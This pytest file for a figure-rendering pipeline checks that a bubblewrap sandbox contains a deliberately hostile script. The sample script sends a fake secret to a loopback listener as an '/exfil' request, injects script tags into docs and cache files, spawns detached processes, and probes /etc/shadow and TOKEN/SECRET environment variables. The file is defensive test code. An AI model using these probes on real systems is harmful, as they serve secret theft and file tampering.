"""A hostile figure script is contained: no secrets, no network, no writes outside, nothing left running.

Each test renders through the real pipeline (`render_all`), so what is asserted is what a build
does. The sandboxed tests need bubblewrap; CI sets FIGURE_PIPELINE_SANDBOX=require, so there a
missing sandbox is a failure, not a skip.
"""

from __future__ import annotations

import contextlib
import json
import os
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from figure_pipeline import errors, sandbox
from figure_pipeline.cache import FigureCache
from figure_pipeline.forkserver import ForkServer
from figure_pipeline.render import render_all
from helpers import GOOD_SCRIPT, PROBE_LINT, options

SECRET = "s3cr3t-from-the-build-environment"
SLEEP_MARK = "4242.25"  # an argument no other process on the machine uses

needs_bwrap = pytest.mark.skipif(
    sandbox.mode() != "require" and sandbox._probe() is not None,
    reason=f"bubblewrap cannot run here: {sandbox._probe()}",
)


def _hostile(port: int, docs: Path, victim: Path) -> str:
    return f'''
import os, socket, subprocess
from pathlib import Path
from diagrams.k8s.compute import Pod
from house_style import figure

seen = {{"secret": os.environ.get("NUTSHELL_FAKE_SECRET", "absent")}}
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
        s.sendall(b"GET /exfil?secret=" + seen["secret"].encode())
    seen["net"] = "connected"
except OSError:
    seen["net"] = "blocked"
for what, path in (("docs", {str(docs / "injected.md")!r}), ("cache", {str(victim)!r})):
    try:
        with open(path, "a") as handle:
            handle.write("<script>INJECTED_BY_FIGURE</script>")
        seen[what] = "written"
    except OSError:
        seen[what] = "blocked"
subprocess.Popen(["sleep", "{SLEEP_MARK}"], start_new_session=True)
subprocess.Popen(["sleep", "{SLEEP_MARK}"])
open("stray_in_cwd.txt", "w").write("x")
with figure("Hostile"):
    for key, value in seen.items():
        Pod(key + ": " + value)
'''


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP server on 127.0.0.1 that records whatever connects to it."""
    received: list[bytes] = []
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            with conn:
                received.append(conn.recv(4096) or b"(connected)")

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    stop.set()
    thread.join()
    server.close()


def _sleepers() -> list[int]:
    found = []
    for proc in Path("/proc").iterdir():
        if proc.name.isdigit():
            try:
                cmdline = (proc / "cmdline").read_bytes().split(b"\0")
            except OSError:
                continue
            if SLEEP_MARK.encode() in cmdline:
                found.append(int(proc.name))
    return found


def _labels(report: object, name: str) -> set[str]:
    result = report.results[name]  # type: ignore[attr-defined]
    assert result.entry is not None, result.problem and result.problem.describe()
    return {node["label"] for node in result.entry.meta()["model"]["nodes"]}


def _kill(pids: list[int]) -> None:
    """Clean up after a failed containment test (by the exact pids it found)."""
    for pid in pids:
        with contextlib.suppress(OSError):
            os.kill(pid, 9)


@needs_bwrap
def test_hostile_script_is_contained_on_every_count(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, listener: tuple[int, list[bytes]]
) -> None:
    port, received = listener
    monkeypatch.setenv("NUTSHELL_FAKE_SECRET", SECRET)
    monkeypatch.setenv("FIGURE_PIPELINE_SANDBOX", "require")
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "index.md").write_text("# Home\n", encoding="utf-8")
    opts = options(tmp_path, {"victim": GOOD_SCRIPT}, lint_ignore=PROBE_LINT)
    victim = render_all(opts).results["victim"].entry
    assert victim is not None
    victim_bytes = victim.light_svg.read_bytes()

    (opts.scripts_dir / "hostile.py").write_text(_hostile(port, docs, victim.light_svg), encoding="utf-8")
    before = set(_sleepers())
    report = render_all(opts)
    leftovers = sorted(set(_sleepers()) - before)
    _kill(leftovers)

    labels = _labels(report, "hostile")
    # 1. No secret: the build's environment never reaches a script, so none reaches a figure.
    assert "secret: absent" in labels
    assert SECRET not in json.dumps(report.results["hostile"].entry.meta())  # type: ignore[union-attr]
    # 2. No network: nothing arrived at the listener on the build machine's loopback.
    assert "net: blocked" in labels and received == []
    # 3. No writes into the project, 4. nor into another figure's cache entry.
    assert "docs: blocked" in labels and not (docs / "injected.md").exists()
    assert "cache: blocked" in labels and victim.light_svg.read_bytes() == victim_bytes
    assert FigureCache(opts.cache_dir).lookup(victim.key) is not None
    # 5. Nothing it started outlives the render, not even a child in a session of its own.
    assert leftovers == []
    # 6. The stray file is reported, and never enters the cache entry.
    assert any("stray_in_cwd.txt" in note for note in report.notes)
    entry = report.results["hostile"].entry
    assert entry is not None
    assert sorted(p.name for p in entry.path.iterdir()) == ["dark.svg", "digest.json", "light.svg", "meta.json"]


def test_without_bubblewrap_the_environment_is_scrubbed_and_the_group_killed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("NUTSHELL_FAKE_SECRET", SECRET)
    monkeypatch.setenv("FIGURE_PIPELINE_SANDBOX", "off")
    script = f"""
import os, subprocess
from diagrams.k8s.compute import Pod
from house_style import figure
subprocess.Popen(["sleep", "{SLEEP_MARK}"])
subprocess.Popen(["sleep", "{SLEEP_MARK}"], start_new_session=True)  # escapes a process-group kill
with figure("Fallback"):
    Pod("secret: " + os.environ.get("NUTSHELL_FAKE_SECRET", "absent"))
    Pod("keys: " + ",".join(sorted(k for k in os.environ if "TOKEN" in k or "SECRET" in k)))
"""
    before = set(_sleepers())
    report = render_all(options(tmp_path, {"fallback": script}, lint_ignore=PROBE_LINT))
    leftovers = sorted(set(_sleepers()) - before)
    _kill(leftovers)
    assert _labels(report, "fallback") == {"secret: absent", "keys: "}
    assert leftovers == []
    assert "WITHOUT a sandbox" in report.sandbox or "=off" in report.sandbox


def test_sandbox_required_but_unavailable_is_an_error(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FIGURE_PIPELINE_SANDBOX", "require")
    monkeypatch.setattr(sandbox, "_probe", lambda: "bubblewrap (bwrap) is not installed")
    with pytest.raises(sandbox.SandboxUnavailable, match="not installed"):
        sandbox.sandbox_status()


@needs_bwrap
def test_the_sandbox_sees_only_the_system_python_and_the_project(tmp_path: Path) -> None:
    """Nothing else of the file system is visible: not the home folder's files, not /etc/shadow."""
    home = Path.home()
    outside = tmp_path.parent / f"{tmp_path.name}-outside.txt"
    outside.write_text("not for figures", encoding="utf-8")
    script = f"""
import os
from diagrams.k8s.compute import Pod
from house_style import figure
probes = {{"outside": {str(outside)!r}, "etc-shadow": "/etc/shadow", "etc-passwd": "/etc/passwd"}}
with figure("Probe"):
    for name, path in probes.items():
        Pod(name + ": " + ("visible" if os.path.exists(path) else "hidden"))
    Pod("home: " + ",".join(sorted(os.listdir({str(home)!r}))) if os.path.isdir({str(home)!r}) else "home: none")
    Pod("uid: " + str(os.getuid()))
    Pod("cwd-writable: " + str(os.access(".", os.W_OK)))
"""
    opts = options(tmp_path, {"probe": script}, lint_ignore=PROBE_LINT)
    try:
        labels = _labels(render_all(opts), "probe")
    finally:
        outside.unlink()
    assert {"outside: hidden", "etc-shadow: hidden", "etc-passwd: hidden", "uid: 65534", "cwd-writable: True"} <= labels
    # Of the home folder, only what leads to a bound path (Python, the project) exists.
    bound = sandbox.bwrap_command(opts.read_only_paths())
    needed = {Path(p).relative_to(home).parts[0] for p in bound if p.startswith(str(home) + "/")}
    (home_label,) = [label for label in labels if label.startswith("home: ")]
    shown = set(filter(None, home_label.removeprefix("home: ").replace("none", "").split(",")))
    assert shown <= needed, f"visible in {home}: {sorted(shown - needed)}"


@pytest.mark.parametrize("mode", ["require", "off"])
def test_output_is_bounded_in_memory(tmp_path: Path, mode: str) -> None:
    """300 MB of prints cost the build process next to nothing (it keeps the last 64 KiB)."""
    if mode == "require" and sandbox._probe() is not None:
        pytest.skip("bubblewrap cannot run here")
    script = (
        GOOD_SCRIPT
        + '\nimport sys\nfor _ in range(150):\n    print("x" * 1_000_000)\n    sys.stderr.write("y" * 1_000_000)\n'
    )
    opts = options(tmp_path, {"noisy": script})
    code = (
        "import resource, sys; from pathlib import Path; from figure_pipeline.options import RenderOptions; "
        "from figure_pipeline.render import render_all; "
        f"r = render_all(RenderOptions(Path({str(opts.scripts_dir)!r}), Path({str(opts.cache_dir)!r}))); "
        "print(len(r.problems), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)"
    )
    env = {**os.environ, "FIGURE_PIPELINE_SANDBOX": mode}
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, env=env, timeout=300, check=True)
    problems, peak_kib = (int(x) for x in out.stdout.split())
    assert problems == 0
    assert peak_kib < 200_000, f"the build process peaked at {peak_kib} KiB"


def test_a_dead_fork_server_does_not_blame_the_figures_in_flight(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("FIGURE_PIPELINE_SANDBOX", "off")
    slow = GOOD_SCRIPT + "\nimport time\ntime.sleep(2)\n"
    opts = options(tmp_path, {"one": slow, "two": slow.replace("Good figure", "Two")})
    server = ForkServer()

    def kill_server() -> None:
        deadline = time.time() + 20
        while server.pid is None and time.time() < deadline:
            time.sleep(0.05)
        time.sleep(0.5)
        if server.pid is not None:
            os.kill(server.pid, 9)

    killer = threading.Thread(target=kill_server)
    killer.start()
    try:
        report = render_all(opts, server=server)
    finally:
        killer.join()
        server.close()
    assert report.problems == [], [p.describe() for p in report.problems]
    assert report.rendered == 2


def test_limits_are_applied_before_the_script_runs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FIGURE_PIPELINE_SANDBOX", "off")
    script = """
import resource
from diagrams.k8s.compute import Pod
from house_style import figure
with figure("Limits"):
    for name in ("RLIMIT_AS", "RLIMIT_FSIZE", "RLIMIT_CPU", "RLIMIT_CORE"):
        Pod(name + " " + str(resource.getrlimit(getattr(resource, name))[1]))
"""
    labels = _labels(
        render_all(options(tmp_path, {"limits": script}, memory_mb=1024, timeout=20, lint_ignore=PROBE_LINT)), "limits"
    )
    assert labels == {
        f"RLIMIT_AS {1024 * 2**20}",
        f"RLIMIT_FSIZE {sandbox.FILE_MB * 2**20}",
        "RLIMIT_CPU 35",
        "RLIMIT_CORE 0",
    }


@pytest.mark.parametrize("mode", ["auto", "off"])
def test_every_failure_is_named(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, mode: str) -> None:
    """Memory, signals, exits and timeouts each get a message that says what happened and what to do."""
    monkeypatch.setenv("FIGURE_PIPELINE_SANDBOX", mode)
    scripts = {
        "memory": GOOD_SCRIPT + "\nblob = b'x' * (700 * 2**20)\n",
        "segfault": "import os, signal\nos.kill(os.getpid(), signal.SIGSEGV)\n",
        "sigkill": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n",
        "early_exit": "import sys\nsys.exit(0)\n",
        "hangs": GOOD_SCRIPT + "\nwhile True:\n    pass\n",
    }
    report = render_all(options(tmp_path, scripts, memory_mb=512, timeout=3, workers=2))
    problems = {name: result.problem for name, result in report.results.items()}
    assert all(problems.values()), problems
    assert problems["memory"].kind == errors.MEMORY  # type: ignore[union-attr]
    assert "used more than 512 MiB of memory" in problems["memory"].message  # type: ignore[union-attr]
    assert "memory_limit" in problems["memory"].hint  # type: ignore[union-attr]
    assert "SIGSEGV" in problems["segfault"].message  # type: ignore[union-attr]
    assert "SIGKILL" in problems["sigkill"].message  # type: ignore[union-attr]
    assert "out-of-memory killer" in problems["sigkill"].message  # type: ignore[union-attr]
    assert problems["early_exit"].kind == errors.EXIT and problems["early_exit"].line == 2  # type: ignore[union-attr]
    assert "before drawing" in problems["early_exit"].message  # type: ignore[union-attr]
    hang = problems["hangs"]
    assert hang.kind == errors.TIMEOUT and "3 s timeout" in hang.message  # type: ignore[union-attr]
    assert "`timeout` option" in hang.hint and "--timeout" in hang.hint  # type: ignore[union-attr]
